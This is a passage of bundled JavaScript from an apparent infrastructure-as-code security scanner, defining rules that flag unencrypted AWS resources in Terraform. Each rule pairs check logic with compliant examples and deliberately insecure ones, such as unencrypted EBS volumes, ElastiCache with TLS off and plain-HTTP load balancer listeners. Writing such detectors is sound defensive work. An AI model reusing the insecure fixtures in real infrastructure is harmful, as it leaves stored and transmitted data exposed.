    remediation: "Add `server_side_encryption { enabled = true }` with `kms_key_arn` set to a customer-managed KMS key (without it, the AWS-managed `aws/dynamodb` key is used).",
    precision: "high",
    cwe: ["CWE-311"],
    tags: ["dynamodb", "kms", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/EncryptionAtRest.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/dynamodb_table#server_side_encryption"
    ]
  },
  check(table, { report }) {
    const sse = singleBlock(table.attributes, "server_side_encryption");
    if (sse === "unknown") return;
    if (!sse) {
      report({ message: `DynamoDB table ${table.name} is encrypted with an AWS-owned key only: no server_side_encryption with a KMS key` });
      return;
    }
    const enabled = sse.block.enabled;
    if (isTrue(enabled) || isUnknown(enabled)) return;
    const at = isFalse(enabled) ? [...sse.at, "enabled"] : sse.at;
    report({ at, message: `DynamoDB table ${table.name} is encrypted with an AWS-owned key only: server-side encryption with a KMS key is turned off` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_dynamodb_table" "orders" {
  name         = "orders"
  billing_mode = "PAY_PER_REQUEST"
  hash_key     = "order_id"

  attribute {
    name = "order_id"
    type = "S"
  }

  server_side_encryption {
    enabled     = true
    kms_key_arn = aws_kms_key.dynamodb.arn
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_dynamodb_table" "orders" {
  name         = "orders"
  billing_mode = "PAY_PER_REQUEST"
  hash_key     = "order_id"

  attribute {
    name = "order_id"
    type = "S"
  }
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "explicitly disabled",
        filename: "main.tf",
        code: `resource "aws_dynamodb_table" "orders" {
  name     = "orders"
  hash_key = "order_id"

  server_side_encryption {
    enabled = false
  }
}
`,
        errors: [{ line: 6, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-ebs-encryption-at-rest.ts
var aws_ebs_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-ebs-encryption-at-rest",
    title: "EBS volume not encrypted",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_ebs_volume"],
    description: "The volume is created unencrypted. Its data, and every snapshot taken of it, can be read by anyone who obtains a copy, and unencrypted snapshots can be shared outside the account.",
    remediation: "Set `encrypted = true` (and `kms_key_id` to a customer-managed key), or turn on EBS encryption by default for the account and region.",
    precision: "high",
    cwe: ["CWE-311"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.2.1"] },
    tags: ["ebs", "encryption-at-rest"],
    references: ["https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html"]
  },
  check(volume, { report }) {
    const encrypted = volume.attributes.encrypted;
    if (encrypted === true || isUnknown(encrypted)) return;
    if (volume.attributes.snapshot_id !== void 0 && volume.attributes.snapshot_id !== null && encrypted === void 0) return;
    if (encrypted === void 0) report({ message: `EBS volume ${volume.name} does not set encrypted = true` });
    else report({ at: ["encrypted"], message: `EBS volume ${volume.name} is explicitly unencrypted` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_ebs_volume" "data" {
  availability_zone = "eu-west-1a"
  size              = 40
  encrypted         = true
  kms_key_id        = aws_kms_key.ebs.arn
}
`
      }
    ],
    invalid: [
      {
        name: "explicitly false",
        filename: "main.tf",
        code: `resource "aws_ebs_volume" "data" {
  availability_zone = "eu-west-1a"
  size              = 40
  encrypted         = false
}
`,
        errors: [{ line: 4, column: 3 }]
      },
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_ebs_volume" "data" {
  availability_zone = "eu-west-1a"
  size              = 40
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-ebs-snapshot-encryption-at-rest.ts
var aws_ebs_snapshot_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-ebs-snapshot-encryption-at-rest",
    title: "EBS snapshot not encrypted at rest",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_ebs_snapshot", "aws_ebs_snapshot_copy"],
    description: "The snapshot is stored unencrypted: it is taken of an unencrypted volume, or a copy explicitly turns encryption off. Unencrypted snapshots can be shared with other accounts or made public, and anyone who can restore them reads the whole disk.",
    remediation: "Snapshot only encrypted volumes, and copy existing unencrypted snapshots with `aws_ebs_snapshot_copy` and `encrypted = true` (plus `kms_key_id`).",
    precision: "high",
    cwe: ["CWE-311"],
    tags: ["ebs", "snapshot", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ebs_snapshot_copy#encrypted"
    ]
  },
  check(snapshot, { graph, report }) {
    if (snapshot.type === "aws_ebs_snapshot_copy") {
      if (isFalse(snapshot.attributes.encrypted)) {
        report({ at: ["encrypted"], message: `EBS snapshot copy ${snapshot.name} is not encrypted at rest (encrypted = false)` });
      }
      return;
    }
    if (isTrue(snapshot.attributes.encrypted)) return;
    const volumes = graph.targets(snapshot.id, "references").filter((target) => target.type === "aws_ebs_volume");
    if (volumes.length !== 1) return;
    const volume = volumes[0];
    const encrypted = volume.attributes.encrypted;
    if (isTrue(encrypted) || isUnknown(encrypted)) return;
    if (isUnset(encrypted) && !isUnset(volume.attributes.snapshot_id)) return;
    report({ at: ["volume_id"], message: `EBS snapshot ${snapshot.name} is not encrypted at rest: it is taken of the unencrypted volume ${volume.name}` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_ebs_volume" "data" {
  availability_zone = "eu-west-1a"
  size              = 40
  encrypted         = true
}

resource "aws_ebs_snapshot" "data" {
  volume_id = aws_ebs_volume.data.id
}
`
      }
    ],
    invalid: [
      {
        name: "snapshot of an unencrypted volume",
        filename: "main.tf",
        code: `resource "aws_ebs_volume" "data" {
  availability_zone = "eu-west-1a"
  size              = 40
}

resource "aws_ebs_snapshot" "data" {
  volume_id = aws_ebs_volume.data.id
}
`,
        errors: [{ line: 7, column: 3 }]
      },
      {
        name: "unencrypted copy",
        filename: "main.tf",
        code: `resource "aws_ebs_snapshot_copy" "dr" {
  source_snapshot_id = "snap-0a1b2c3d4e5f67890"
  source_region      = "eu-west-1"
  encrypted          = false
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/support/block-devices.ts
function unencryptedInstanceVolumes(attributes) {
  const found = [];
  const roots = blocksOf(attributes, "root_block_device");
  if (roots !== void 0) {
    if (roots.length === 0) found.push({ label: "root volume", explicit: false });
    for (const { block, at } of roots) {
      const problem = volumeProblem(block, at);
      if (problem) found.push({ ...problem, label: "root volume" });
    }
  }
  for (const { block, at } of blocksOf(attributes, "ebs_block_device") ?? []) {
    const problem = volumeProblem(block, at);
    const device = typeof block.device_name === "string" ? ` ${block.device_name}` : "";
    if (problem) found.push({ ...problem, label: `EBS volume${device}` });
  }
  return found;
}
function volumeProblem(block, at) {
  const encrypted = block.encrypted;
  if (isTrue(encrypted) || isUnknown(encrypted)) return void 0;
  if (isFalse(encrypted)) return { at: [...at, "encrypted"], explicit: true };
  if (!isUnset(block.snapshot_id) || !isUnset(block.kms_key_id)) return void 0;
  return { at, explicit: false };
}

// packages/rules/src/terraform/encryption/aws-ec2-instance-volume-encryption.ts
var aws_ec2_instance_volume_encryption_default = defineRule({
  meta: {
    id: "aws-ec2-instance-volume-encryption",
    title: "EC2 instance root or EBS block device not encrypted at rest",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_instance"],
    description: "The instance's root volume or an attached `ebs_block_device` is created without `encrypted = true`. Unless the account turns on EBS encryption by default, the disk and its snapshots are stored unencrypted, and the setting cannot be changed without replacing the volume.",
    remediation: "Set `encrypted = true` (and `kms_key_id`) in `root_block_device` and every `ebs_block_device`, or enable EBS encryption by default for the account and region (`aws_ebs_encryption_by_default`).",
    precision: "medium",
    cwe: ["CWE-311"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.2.1"] },
    tags: ["ec2", "ebs", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#ebs-ephemeral-and-root-block-devices"
    ]
  },
  check(instance, { report }) {
    const template = instance.attributes.launch_template;
    if (isUnknown(template) || !isUnset(template) && !(Array.isArray(template) && template.length === 0)) return;
    for (const volume of unencryptedInstanceVolumes(instance.attributes)) {
      const how = volume.explicit ? "encrypted = false" : "encrypted is not set";
      report({ at: volume.at, message: `EC2 instance ${instance.name}: ${volume.label} is not encrypted at rest (${how})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_instance" "app" {
  ami           = data.aws_ami.al2023.id
  instance_type = "t3.small"

  root_block_device {
    volume_size = 20
    encrypted   = true
  }

  ebs_block_device {
    device_name = "/dev/sdf"
    volume_size = 100
    encrypted   = true
    kms_key_id  = aws_kms_key.ebs.arn
  }
}
`
      }
    ],
    invalid: [
      {
        name: "no root_block_device",
        filename: "main.tf",
        code: `resource "aws_instance" "app" {
  ami           = data.aws_ami.al2023.id
  instance_type = "t3.small"
}
`,
        errors: [{ line: 1, column: 1, messageIncludes: "root volume" }]
      },
      {
        name: "root without encryption, data disk explicitly unencrypted",
        filename: "main.tf",
        code: `resource "aws_instance" "app" {
  ami           = data.aws_ami.al2023.id
  instance_type = "t3.small"

  root_block_device {
    volume_size = 20
  }

  ebs_block_device {
    device_name = "/dev/sdf"
    volume_size = 100
    encrypted   = false
  }
}
`,
        errors: [
          { line: 5, column: 3, messageIncludes: "root volume" },
          { line: 12, column: 5, messageIncludes: "/dev/sdf" }
        ]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-efs-encryption-at-rest.ts
var aws_efs_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-efs-encryption-at-rest",
    title: "EFS file system not encrypted at rest",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_efs_file_system"],
    description: "The file system stores its files and metadata unencrypted. EFS encryption at rest can only be chosen when the file system is created, so fixing it later means creating a new file system and copying every file across.",
    remediation: "Set `encrypted = true` and `kms_key_id` to a customer-managed KMS key, then migrate the data to the new, encrypted file system (for example with AWS DataSync).",
    precision: "very-high",
    cwe: ["CWE-311"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.4.1"] },
    tags: ["efs", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/efs/latest/ug/encryption-at-rest.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/efs_file_system#encrypted"
    ]
  },
  check(fileSystem, { report }) {
    const encrypted = fileSystem.attributes.encrypted;
    if (isTrue(encrypted) || isUnknown(encrypted)) return;
    if (isFalse(encrypted)) {
      report({ at: ["encrypted"], message: `EFS file system ${fileSystem.name} is not encrypted at rest (encrypted = false)` });
    } else if (isUnset(fileSystem.attributes.kms_key_id)) {
      report({ message: `EFS file system ${fileSystem.name} does not set encrypted = true, so its files are not encrypted at rest` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_efs_file_system" "shared" {
  creation_token = "shared-home"
  encrypted      = true
  kms_key_id     = aws_kms_key.efs.arn
}
`
      }
    ],
    invalid: [
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_efs_file_system" "shared" {
  creation_token   = "shared-home"
  performance_mode = "generalPurpose"
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "explicitly false",
        filename: "main.tf",
        code: `resource "aws_efs_file_system" "shared" {
  creation_token = "shared-home"
  encrypted      = false
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-eks-secrets-encryption-missing.ts
var aws_eks_secrets_encryption_missing_default = defineRule({
  meta: {
    id: "aws-eks-secrets-encryption-missing",
    title: "EKS cluster without KMS envelope encryption of Kubernetes secrets",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_eks_cluster"],
    description: "The cluster has no `encryption_config` for `secrets`, so Kubernetes Secrets are not envelope-encrypted with a KMS key you control. Older clusters store them in etcd protected only by volume encryption; newer ones use an AWS-owned key whose use you cannot audit in CloudTrail, restrict or revoke.",
    remediation: 'Add `encryption_config { resources = ["secrets"]  provider { key_arn = aws_kms_key.eks.arn } }` with a customer-managed key that has rotation enabled.',
    precision: "very-high",
    cwe: ["CWE-311"],
    tags: ["eks", "kubernetes", "secrets", "encryption-at-rest", "kms"],
    references: [
      "https://docs.aws.amazon.com/eks/latest/userguide/enable-kms.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/eks_cluster#encryption_config"
    ]
  },
  check(cluster, { report }) {
    const config = cluster.attributes.encryption_config;
    if (isUnknown(config)) return;
    const blocks = asList(config);
    if (blocks.length === 0) {
      report({ message: `EKS cluster ${cluster.name} does not encrypt Kubernetes secrets with a KMS key (no encryption_config)` });
      return;
    }
    for (const [index, block] of blocks.entries()) {
      if (!isObject(block)) return;
      const resources = block.resources;
      if (isUnknown(resources) || Array.isArray(resources) && resources.some((item) => item === "secrets" || isUnknown(item))) return;
      if (index === blocks.length - 1) {
        const at = isObject(config) ? ["encryption_config"] : ["encryption_config", index];
        report({ at, message: `EKS cluster ${cluster.name}: encryption_config does not cover "secrets"` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "main" {
  name     = "main"
  role_arn = aws_iam_role.eks.arn
  vpc_config {
    subnet_ids = aws_subnet.private[*].id
  }
  encryption_config {
    resources = ["secrets"]
    provider {
      key_arn = aws_kms_key.eks.arn
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "main" {
  name     = "main"
  role_arn = aws_iam_role.eks.arn
  vpc_config {
    subnet_ids = aws_subnet.private[*].id
  }
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-elasticache-encryption-at-rest.ts
var aws_elasticache_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-elasticache-encryption-at-rest",
    title: "ElastiCache replication group not encrypted at rest",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_elasticache_replication_group"],
    description: "The Redis or Valkey replication group writes swap files, backups and snapshots to disk unencrypted. Caches often hold session tokens and personal data copied from the primary database, and encryption at rest can only be chosen when the group is created.",
    remediation: "Set `at_rest_encryption_enabled = true` (with `kms_key_id` for a customer-managed key) and recreate the replication group, restoring from a backup if the data must be kept.",
    precision: "high",
    cwe: ["CWE-311"],
    tags: ["elasticache", "redis", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/at-rest-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elasticache_replication_group#at_rest_encryption_enabled"
    ]
  },
  check(group, { report }) {
    const attributes = group.attributes;
    const enabled = attributes.at_rest_encryption_enabled;
    if (isTrue(enabled) || isUnknown(enabled)) return;
    if (isFalse(enabled)) {
      report({ at: ["at_rest_encryption_enabled"], message: `ElastiCache replication group ${group.name} is not encrypted at rest (at_rest_encryption_enabled = false)` });
      return;
    }
    if (!isUnset(attributes.global_replication_group_id) || !isUnset(attributes.kms_key_id)) return;
    report({ message: `ElastiCache replication group ${group.name} does not set at_rest_encryption_enabled = true, so its data is not encrypted at rest` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_elasticache_replication_group" "sessions" {
  replication_group_id       = "sessions"
  description                = "user sessions"
  node_type                  = "cache.t4g.small"
  at_rest_encryption_enabled = true
  transit_encryption_enabled = true
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_elasticache_replication_group" "sessions" {
  replication_group_id = "sessions"
  description          = "user sessions"
  node_type            = "cache.t4g.small"
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "explicitly false",
        filename: "main.tf",
        code: `resource "aws_elasticache_replication_group" "sessions" {
  replication_group_id       = "sessions"
  description                = "user sessions"
  at_rest_encryption_enabled = false
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-elasticache-encryption-in-transit.ts
var aws_elasticache_encryption_in_transit_default = defineRule({
  meta: {
    id: "aws-elasticache-encryption-in-transit",
    title: "ElastiCache replication group without encryption in transit (TLS)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_elasticache_replication_group"],
    description: 'Clients and replicas talk to the Redis or Valkey nodes in plain text, or TLS is only offered (`transit_encryption_mode = "preferred"`) so clients may still connect without it. Anyone who can observe traffic in the VPC can read cached data and the AUTH token.',
    remediation: 'Set `transit_encryption_enabled = true` with `transit_encryption_mode = "required"`, and configure clients to connect over TLS.',
    precision: "high",
    cwe: ["CWE-319"],
    tags: ["elasticache", "redis", "encryption-in-transit", "tls"],
    references: [
      "https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/in-transit-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elasticache_replication_group#transit_encryption_enabled"
    ]
  },
  check(group, { report }) {
    const attributes = group.attributes;
    const enabled = attributes.transit_encryption_enabled;
    if (isUnknown(enabled)) return;
    if (isTrue(enabled)) {
      if (typeof attributes.transit_encryption_mode === "string" && attributes.transit_encryption_mode.toLowerCase() === "preferred") {
        report({ at: ["transit_encryption_mode"], message: `ElastiCache replication group ${group.name} accepts unencrypted connections besides TLS (transit_encryption_mode = "preferred")` });
      }
      return;
    }
    if (isFalse(enabled)) {
      report({ at: ["transit_encryption_enabled"], message: `ElastiCache replication group ${group.name} has no encryption in transit: TLS is turned off (transit_encryption_enabled = false)` });
    } else if (isUnset(attributes.global_replication_group_id)) {
      report({ message: `ElastiCache replication group ${group.name} does not set transit_encryption_enabled = true, so clients connect without TLS` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_elasticache_replication_group" "sessions" {
  replication_group_id       = "sessions"
  description                = "user sessions"
  transit_encryption_enabled = true
  transit_encryption_mode    = "required"
  auth_token                 = var.redis_auth_token
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_elasticache_replication_group" "sessions" {
  replication_group_id       = "sessions"
  description                = "user sessions"
  transit_encryption_enabled = false
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "TLS" }]
      },
      {
        name: "TLS offered but not required",
        filename: "main.tf",
        code: `resource "aws_elasticache_replication_group" "sessions" {
  replication_group_id       = "sessions"
  description                = "user sessions"
  transit_encryption_enabled = true
  transit_encryption_mode    = "preferred"
}
`,
        errors: [{ line: 5, column: 3 }]
      },
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_elasticache_replication_group" "sessions" {
  replication_group_id = "sessions"
  description          = "user sessions"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-elb-listener-http.ts
var aws_elb_listener_http_default = defineRule({
  meta: {
    id: "aws-elb-listener-http",
    title: "Classic load balancer listener uses plain HTTP (no TLS)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_elb"],
    description: 'A listener of the Classic Load Balancer accepts client traffic over plain HTTP (`lb_protocol = "http"`). Classic load balancers cannot redirect to HTTPS, so everything sent to that listener, cookies and credentials included, crosses the network unencrypted.',
    remediation: "Replace the listener with an `https` listener and an ACM certificate (`ssl_certificate_id`), or migrate to an Application Load Balancer that redirects HTTP to HTTPS.",
    precision: "high",
    cwe: ["CWE-319"],
    tags: ["elb", "encryption-in-transit", "http"],
    references: [
      "https://docs.aws.amazon.com/elasticloadbalancing/latest/classic/elb-listener-config.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elb#listener"
    ]
  },
  check(balancer, { report }) {
    for (const { block, at } of blocksOf(balancer.attributes, "listener") ?? []) {
      const protocol = block.lb_protocol;
      if (typeof protocol === "string" && protocol.toLowerCase() === "http") {
        report({ at: [...at, "lb_protocol"], message: `Classic load balancer ${balancer.name} has an HTTP listener on port ${String(block.lb_port)}: traffic is not encrypted with TLS` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_elb" "web" {
  name    = "web"
  subnets = [aws_subnet.public.id]

  listener {
    instance_port      = 8080
    instance_protocol  = "http"
    lb_port            = 443
    lb_protocol        = "https"
    ssl_certificate_id = aws_acm_certificate.web.arn
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_elb" "web" {
  name    = "web"
  subnets = [aws_subnet.public.id]

  listener {
    instance_port     = 8080
    instance_protocol = "http"
    lb_port           = 80
    lb_protocol       = "http"
  }
}
`,
        errors: [{ line: 9, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-kinesis-firehose-encryption-at-rest.ts
var aws_kinesis_firehose_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-kinesis-firehose-encryption-at-rest",
    title: "Kinesis Data Firehose delivery stream without server-side encryption",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_kinesis_firehose_delivery_stream"],
    description: "Records sent directly to the delivery stream are buffered without server-side encryption before delivery. Streams fed by a Kinesis data stream or MSK rely on their source's encryption instead and are not reported.",
    remediation: 'Add `server_side_encryption { enabled = true }`, with `key_type = "CUSTOMER_MANAGED_CMK"` and `key_arn` for a customer-managed KMS key.',
    precision: "high",
    cwe: ["CWE-311"],
    tags: ["firehose", "kinesis", "encryption-at-rest", "sse"],
    references: [
      "https://docs.aws.amazon.com/firehose/latest/dev/encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/kinesis_firehose_delivery_stream#server_side_encryption"
    ]
  },
  check(stream, { report }) {
    const attributes = stream.attributes;
    for (const source of ["kinesis_source_configuration", "msk_source_configuration"]) {
      const blocks = blocksOf(attributes, source);
      if (blocks === void 0 || blocks.length > 0) return;
    }
    const sse = singleBlock(attributes, "server_side_encryption");
    if (sse === "unknown") return;
    if (!sse) {
      report({ message: `Firehose delivery stream ${stream.name} has no server_side_encryption: buffered records are not encrypted at rest` });
      return;
    }
    const enabled = sse.block.enabled;
    if (isTrue(enabled) || isUnknown(enabled)) return;
    const at = enabled === void 0 || enabled === null ? sse.at : [...sse.at, "enabled"];
    report({ at, message: `Firehose delivery stream ${stream.name} has server-side encryption turned off: buffered records are not encrypted at rest` });
  },
  examples: {
    valid: [
      {
        name: "direct put with a customer key",
        filename: "main.tf",
        code: `resource "aws_kinesis_firehose_delivery_stream" "audit" {
  name        = "audit-to-s3"
  destination = "extended_s3"

  server_side_encryption {
    enabled  = true
    key_type = "CUSTOMER_MANAGED_CMK"
    key_arn  = aws_kms_key.firehose.arn
  }

  extended_s3_configuration {
    role_arn   = aws_iam_role.firehose.arn
    bucket_arn = aws_s3_bucket.audit.arn
  }
}
`
      },
      {
        name: "fed by a Kinesis stream",
        filename: "main.tf",
        code: `resource "aws_kinesis_firehose_delivery_stream" "clicks" {
  name        = "clicks-to-s3"
  destination = "extended_s3"

  kinesis_source_configuration {
    kinesis_stream_arn = aws_kinesis_stream.clicks.arn
    role_arn           = aws_iam_role.firehose.arn
  }

  extended_s3_configuration {
    role_arn   = aws_iam_role.firehose.arn
    bucket_arn = aws_s3_bucket.clicks.arn
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_kinesis_firehose_delivery_stream" "audit" {
  name        = "audit-to-s3"
  destination = "extended_s3"

  extended_s3_configuration {
    role_arn   = aws_iam_role.firehose.arn
    bucket_arn = aws_s3_bucket.audit.arn
  }
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-kinesis-stream-encryption-at-rest.ts
var aws_kinesis_stream_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-kinesis-stream-encryption-at-rest",
    title: "Kinesis data stream not encrypted at rest",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_kinesis_stream"],
    description: "The stream's `encryption_type` is `NONE` (the default), so records stay unencrypted in the stream's storage for the whole retention period.",
    remediation: 'Set `encryption_type = "KMS"` and `kms_key_id` to a customer-managed key (or `alias/aws/kinesis`); encryption can be turned on for an existing stream.',
    precision: "very-high",
    cwe: ["CWE-311"],
    tags: ["kinesis", "encryption-at-rest", "kms"],
    references: [
      "https://docs.aws.amazon.com/streams/latest/dev/server-side-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/kinesis_stream#encryption_type"
    ]
  },
  check(stream, { report }) {
    const type = stream.attributes.encryption_type;
    if (isUnknown(type)) return;
    if (type === void 0 || type === null) {
      report({ message: `Kinesis stream ${stream.name} does not set encryption_type = "KMS", so records are not encrypted at rest` });
    } else if (typeof type === "string" && type.toUpperCase() === "NONE") {
      report({ at: ["encryption_type"], message: `Kinesis stream ${stream.name} is not encrypted at rest (encryption_type = "NONE")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_kinesis_stream" "clicks" {
  name             = "clicks"
  retention_period = 48
  encryption_type  = "KMS"
  kms_key_id       = "alias/aws/kinesis"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_kinesis_stream" "clicks" {
  name             = "clicks"
  shard_count      = 2
  retention_period = 48
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "explicitly NONE",
        filename: "main.tf",
        code: `resource "aws_kinesis_stream" "clicks" {
  name            = "clicks"
  shard_count     = 2
  encryption_type = "NONE"
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-kms-key-rotation-disabled.ts
var aws_kms_key_rotation_disabled_default = defineRule({
  meta: {
    id: "aws-kms-key-rotation-disabled",
    title: "KMS key rotation not enabled on a symmetric customer-managed key",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_kms_key"],
    description: "Automatic rotation is off for a symmetric encryption key. The same key material then protects data for the key's whole life, so a compromise of it exposes everything ever encrypted under it, and compliance regimes that require yearly rotation are not met.",
    remediation: "Set `enable_key_rotation = true` (optionally `rotation_period_in_days`); AWS keeps old key material to decrypt existing data.",
    precision: "very-high",
    cwe: ["CWE-320"],
    tags: ["kms", "key-rotation", "key-management"],
    references: [
      "https://docs.aws.amazon.com/kms/latest/developerguide/rotate-keys.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/kms_key#enable_key_rotation"
    ]
  },
  check(key, { report }) {
    const { attributes } = key;
    const spec = attributes.customer_master_key_spec ?? attributes.key_spec;
    if (!isUnset(spec) && spec !== "SYMMETRIC_DEFAULT") return;
    if (!isUnset(attributes.key_usage) && attributes.key_usage !== "ENCRYPT_DECRYPT") return;
    if (!isUnset(attributes.custom_key_store_id)) return;
    const rotation = attributes.enable_key_rotation;
    if (isUnknown(rotation) || isTrue(rotation)) return;
    if (isUnset(rotation)) report({ message: `KMS key ${key.name} does not enable automatic key rotation (enable_key_rotation is not set)` });
    else report({ at: ["enable_key_rotation"], message: `KMS key ${key.name} has automatic key rotation turned off` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_kms_key" "logs" {
  description         = "log bucket key"
  enable_key_rotation = true
}

resource "aws_kms_key" "signing" {
  description              = "release signing"
  key_usage                = "SIGN_VERIFY"
  customer_master_key_spec = "ECC_NIST_P256"
}
`
      }
    ],
    invalid: [
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_kms_key" "logs" {
  description             = "log bucket key"
  deletion_window_in_days = 10
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "explicitly off",
        filename: "main.tf",
        code: `resource "aws_kms_key" "logs" {
  description         = "log bucket key"
  enable_key_rotation = false
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-launch-configuration-volume-encryption.ts
var aws_launch_configuration_volume_encryption_default = defineRule({
  meta: {
    id: "aws-launch-configuration-volume-encryption",
    title: "Launch configuration creates unencrypted EBS volumes",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_launch_configuration"],
    description: "Every instance the Auto Scaling group launches from this configuration gets a root volume or EBS block device without `encrypted = true`, so, unless EBS encryption by default is on for the account, its disks are not encrypted at rest.",
    remediation: "Set `encrypted = true` in `root_block_device` and every `ebs_block_device` (better, move to an `aws_launch_template`), or enable EBS encryption by default for the account and region.",
    precision: "medium",
    cwe: ["CWE-311"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.2.1"] },
    tags: ["ec2", "autoscaling", "ebs", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/launch_configuration#block-devices"
    ]
  },
  check(configuration, { report }) {
    for (const volume of unencryptedInstanceVolumes(configuration.attributes)) {
      const how = volume.explicit ? "encrypted = false" : "encrypted is not set";
      report({ at: volume.at, message: `Launch configuration ${configuration.name}: ${volume.label} is not encrypted at rest (${how})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_launch_configuration" "workers" {
  image_id      = data.aws_ami.al2023.id
  instance_type = "m6i.large"

  root_block_device {
    volume_size = 50
    encrypted   = true
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
